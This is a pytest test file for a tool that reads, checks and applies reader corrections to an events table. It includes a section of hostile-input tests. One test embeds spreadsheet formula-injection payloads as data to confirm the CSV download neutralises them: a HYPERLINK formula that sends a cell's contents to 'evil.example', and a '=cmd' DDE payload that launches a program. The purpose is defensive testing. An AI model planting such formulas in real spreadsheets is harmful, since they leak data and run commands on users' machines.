"""A reader's corrections: read, checked, applied, marked, written back, and applied by the build."""

import csv
import io
import os
import re
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from explorer import corrections as fixes
from explorer.events import finish, read_table

from .conftest import ROOT


def test_corrections_change_only_what_they_name_and_mark_the_rows(seed_table):
    december = seed_table[seed_table.mention == "December 10"].iloc[0]
    week = seed_table[seed_table.mention == "last week"].iloc[0]
    referendum = seed_table[seed_table.mention == "Feb 27"].iloc[0]
    corrections = {
        december.event_id: fixes.Correction(december.event_id, "2021-12-09", "2021-12-09"),
        week.event_id: fixes.Correction(week.event_id, granularity="month", actors=("European Union",)),
        referendum.event_id: fixes.Correction(referendum.event_id, drop=True),
    }
    table, problems = finish(seed_table, corrections)
    assert problems == [] and len(table) == len(seed_table) - 1
    rows = table.set_index("event_id")
    assert rows.loc[december.event_id, ["date_start", "date_end", "corrected"]].tolist() == ["2021-12-09", "2021-12-09", "date"]
    assert rows.loc[week.event_id, ["granularity", "actors", "corrected"]].tolist() == ["month", "European Union",
                                                                                         "precision, actors"]
    assert referendum.event_id not in rows.index
    untouched = rows.drop(index=[december.event_id, week.event_id])
    assert (untouched.corrected == "").all()


def test_corrections_round_trip_and_bad_rows_are_named():
    corrections = {"a1": fixes.Correction("a1", "2021-01-01", "2021-01-31", "month", ("X", "Y"), False, "typo"),
                   "b2": fixes.Correction("b2", actors=()), "c3": fixes.Correction("c3", drop=True)}
    back, problems = fixes.read(fixes.to_csv(corrections))
    assert back == corrections and problems == []
    bad = ("event_id,date_start,date_end,granularity\n,2021-01-01,2021-01-02,\nx,2021-02-30,2021-03-01,\n"
           "y,2021-03-01,2021-02-01,\nz,,,fortnightly\nw,2021-01-01,,\n")
    found, problems = fixes.read(bad)
    assert found == {}
    assert [p.reason for p in problems] == [
        "line 2: it names no event_id; ignored",
        "line 3: '2021-02-30'–'2021-03-01' is not a YYYY-MM-DD span; ignored",
        "line 4: its date ends before it starts; ignored",
        "line 5: 'fortnightly' is not a precision (time, day, week, weekend, month, season, quarter, half, year, "
        "decade, century, present); ignored",
        "line 6: a corrected date needs both date_start and date_end; ignored"]
    assert fixes.read("no,columns\n1,2\n")[1][0].reason == "has no 'event_id' column; it was ignored"


def test_a_correction_for_an_event_the_table_lacks_is_noted(seed_table):
    _, problems = finish(seed_table, {"nope": fixes.Correction("nope", drop=True)})
    assert [str(p) for p in problems] == ["corrections.csv: nope: no such event in this table; ignored"]


def test_build_applies_corrections(tmp_path, seed_table):
    december = seed_table[seed_table.mention == "December 10"].iloc[0].event_id
    path = tmp_path / "corrections.csv"
    path.write_bytes(fixes.to_csv({december: fixes.Correction(december, "2021-12-09", "2021-12-09", "day")}))
    out = tmp_path / "e.csv"
    run = subprocess.run([sys.executable, "-m", "explorer", "build", "seeds", "--out", str(out), "--corrections", str(path)],
                         capture_output=True, text=True, cwd=ROOT)
    assert run.returncode == 0, run.stderr
    row = read_table(out).set_index("event_id").loc[december]
    assert (row.date_start, row.corrected) == ("2021-12-09", "date")
    missing = subprocess.run([sys.executable, "-m", "explorer", "build", "seeds", "--out", str(out), "--corrections",
                              str(tmp_path / "none.csv")], capture_output=True, text=True, cwd=ROOT)
    assert missing.returncode == 2 and "none.csv: no such file" in missing.stderr


# --- hostile corrections files (issue 19) -------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)
DAY = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")


def build(*args, timeout=120):
    return subprocess.run([sys.executable, "-m", "explorer", "build", "seeds", *map(str, args)],
                          capture_output=True, text=True, cwd=ROOT, timeout=timeout)


def test_only_yyyy_mm_dd_dates_are_read_and_the_other_lines_kept():
    # date.fromisoformat takes 20210101 and 2021-W01-1; the table takes YYYY-MM-DD only
    found, problems = fixes.read("event_id,date_start,date_end\na,20210101,20210102\nb,2021-W01-1,2021-W01-1\n"
                                 "c,2021-01-01,2021-01-02\nd,2021-1-1,2021-01-02\ne,２０２１-01-01,2021-01-02\n"
                                 "f,2021-01-01T00:00,2021-01-02\n")
    assert list(found) == ["c"]
    assert [p.reason for p in problems] == [
        "line 2: '20210101'–'20210102' is not a YYYY-MM-DD span; ignored",
        "line 3: '2021-W01-1'–'2021-W01-1' is not a YYYY-MM-DD span; ignored",
        "line 5: '2021-1-1'–'2021-01-02' is not a YYYY-MM-DD span; ignored",
        "line 6: '２０２１-01-01'–'2021-01-02' is not a YYYY-MM-DD span; ignored",
        "line 7: '2021-01-01T00:00'–'2021-01-02' is not a YYYY-MM-DD span; ignored"]
    assert fixes.check(fixes.Correction("x", "20210101", "20210101")) is not None


@pytest.mark.parametrize("data, reason", [
    (b"", "empty file; no corrections in it"),
    (b" \r\n\n", "empty file; no corrections in it"),
    (PNG, "binary file, not a corrections CSV"),
    (b"\xff\xfee\x00v\x00x", "not text ('utf-16-le' codec can't decode byte 0x78 in position 6: truncated data), "
                             "not a corrections CSV"),
    (b"date_start,date_end\n2021-01-01,2021-01-01\n", "has no 'event_id' column; it was ignored"),
])
def test_a_file_that_is_no_corrections_file_gives_one_problem_and_no_exception(data, reason):
    assert fixes.read(data) == ({}, [fixes.Problem(fixes.FILE, reason)])


def test_cr_only_line_endings_and_a_spreadsheets_header_are_read():
    found, problems = fixes.read(b"\xef\xbb\xbf Event_ID ,Date_Start,date_end\ra,2021-01-01,2021-01-02\r,,\rb,20210101,"
                                 b"20210101\r")
    assert list(found) == ["a"] and found["a"].date_end == "2021-01-02"
    assert [p.reason for p in problems] == ["line 4: '20210101'–'20210101' is not a YYYY-MM-DD span; ignored"]


def test_a_file_of_only_bad_lines_names_the_first_twenty_and_counts_the_rest():
    found, problems = fixes.read("event_id,granularity\n" + "".join(f"e{i},fortnight\n" for i in range(25)))
    assert found == {} and len(problems) == fixes.MAX_NAMED + 1
    assert problems[0].reason.startswith("line 2: 'fortnight' is not a precision")
    assert problems[-1].reason == "and 5 more lines that cannot be used; ignored"


def test_a_line_csv_cannot_read_is_named_and_the_rest_are_kept():
    huge = "x" * (csv.field_size_limit() + 1)
    found, problems = fixes.read(f'event_id,note\na,"{huge}"\nb,fine\n')
    assert list(found) == ["b"] and [p.reason[:29] for p in problems] == ["line 2: not a CSV line (field"]


def test_reported_values_are_one_line_and_short():
    bad_id = "x\nskipped forged.txt: " + "y" * 200
    found, problems = fixes.read("event_id,date_start,date_end\n"
                                 f'"{bad_id}",,\nz,"2021-01-01\nskipped evil",2021-01-02\n')
    assert found == {} and len(problems) == 2
    assert all("\n" not in str(p) and len(str(p)) < 200 for p in problems)


def test_formulas_in_the_download_are_guarded_and_read_back_exactly():
    evil = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    corrections = {evil: fixes.Correction(evil, actors=("=cmd", "' /C calc'!A0"), note="@SUM(1+1)"),
                   "+1": fixes.Correction("+1", "2021-01-01", "2021-01-01", note="-2"),
                   "'=already": fixes.Correction("'=already", drop=True, note="'quoted")}
    data = fixes.to_csv(corrections)
    cells = [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]
    assert "=cmd|' /C calc'!A0" not in cells and "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert fixes.read(data) == (corrections, [])


def test_apply_skips_a_correction_it_cannot_use_and_names_unknown_events_up_to_twenty(seed_table):
    event = seed_table.event_id.iloc[0]
    before = seed_table.set_index("event_id").loc[event, ["date_start", "date_end"]].tolist()
    corrections = {event: fixes.Correction(event, "20210101", "20210101"),
                   **{f"nope{i}": fixes.Correction(f"nope{i}", drop=True) for i in range(23)}}
    table, problems = fixes.apply(seed_table, corrections)
    assert table.set_index("event_id").loc[event, ["date_start", "date_end", "corrected"]].tolist() == [*before, ""]
    assert [p.reason for p in problems] == [
        f"{event}: '20210101'–'20210101' is not a YYYY-MM-DD span; ignored",
        *(f"nope{i}: no such event in this table; ignored" for i in range(20)),
        "and 3 more corrections name events this table does not have; ignored"]


DATES = st.one_of(st.sampled_from(["", "2021-01-01", "2021-12-31", "20210101", "2021-W01-1", "2021-001", "0001-01-01",
                                   "9999-12-31", "2021-02-30", " 2021-01-01"]), st.text(max_size=12))
CELLS = st.one_of(st.sampled_from(["", "day", "month", "yes", "=1+1", "'=x", "a|b", "\r", "\x00"]), st.text(max_size=12))
ROWS = st.tuples(st.booleans(), st.one_of(DATES.map(lambda d: (d, d)), st.tuples(DATES, DATES)),
                 st.tuples(st.sampled_from(["", "day", "month", "Day", "fortnight"]), CELLS, CELLS, CELLS, CELLS))


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(ROWS, max_size=6))
@example(rows=[(True, ("20210101", "20210101"), ("", "", "", "", "")),
               (True, ("2021-W01-1", "2021-W01-1"), ("", "", "", "", ""))])
def test_whatever_read_accepts_apply_applies_without_raising_and_dates_stay_strict(seed_table, rows):
    ids = seed_table.event_id.tolist()
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(fixes.COLUMNS + ("actors_set",))
    for i, (known, (start, end), (granularity, actors, drop, note, actors_set)) in enumerate(rows):
        writer.writerow([ids[i] if known else f"id{i}", start, end, granularity, actors, drop, note, actors_set])
    found, _ = fixes.read(out.getvalue().encode())
    table, _ = fixes.apply(seed_table, found)
    dated = table[table.date_start != ""]
    assert dated.date_start.map(DAY.fullmatch).all() and dated.date_end.map(DAY.fullmatch).all()
    assert (dated.date_start <= dated.date_end).all()


def test_build_reports_each_bad_line_and_applies_the_rest(tmp_path, seed_table):
    good, other = seed_table.event_id.iloc[0], seed_table.event_id.iloc[1]
    path = tmp_path / "fixes.csv"
    path.write_text(f"event_id,date_start,date_end\r{good},2021-12-09,2021-12-09\r{other},20210101,20210101\r"
                    f"{other},2021-W01-1,2021-W01-1\runknown,2021-01-01,2021-01-01\r", encoding="utf-8")
    out = tmp_path / "e.csv"
    run = build("--out", out, "--corrections", path)
    assert run.returncode == 0, run.stderr
    assert "skipped fixes.csv: line 3: '20210101'–'20210101' is not a YYYY-MM-DD span; ignored" in run.stderr
    assert "skipped fixes.csv: line 4: '2021-W01-1'–'2021-W01-1' is not a YYYY-MM-DD span; ignored" in run.stderr
    assert "note corrections.csv: unknown: no such event in this table; ignored" in run.stderr
    table = read_table(out)
    assert table.set_index("event_id").loc[good, "date_start"] == "2021-12-09"
    assert table.date_start[table.date_start != ""].map(DAY.fullmatch).all()


@pytest.mark.parametrize("kind", ["folder", "binary", "fifo", "empty", "no event_id"])
def test_build_refuses_a_file_that_is_no_corrections_file_in_one_line(tmp_path, kind):
    path = tmp_path / "fixes.csv"
    if kind == "folder":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)  # opening it would wait for a writer for ever
    else:
        path.write_bytes({"binary": PNG, "empty": b"", "no event_id": b"id,date_start\nx,2021-01-01\n"}[kind])
    run = build("--out", tmp_path / "e.csv", "--corrections", path, timeout=60)
    said = {"folder": "a folder, not a file", "fifo": "a named pipe (FIFO), not a file",
            "binary": "binary file, not a corrections CSV", "empty": "empty file; no corrections in it",
            "no event_id": "has no 'event_id' column; it was ignored"}
    assert run.returncode == 2
    assert run.stderr == f"python -m explorer: error: {path}: {said[kind]}\n"
    assert not (tmp_path / "e.csv").exists()
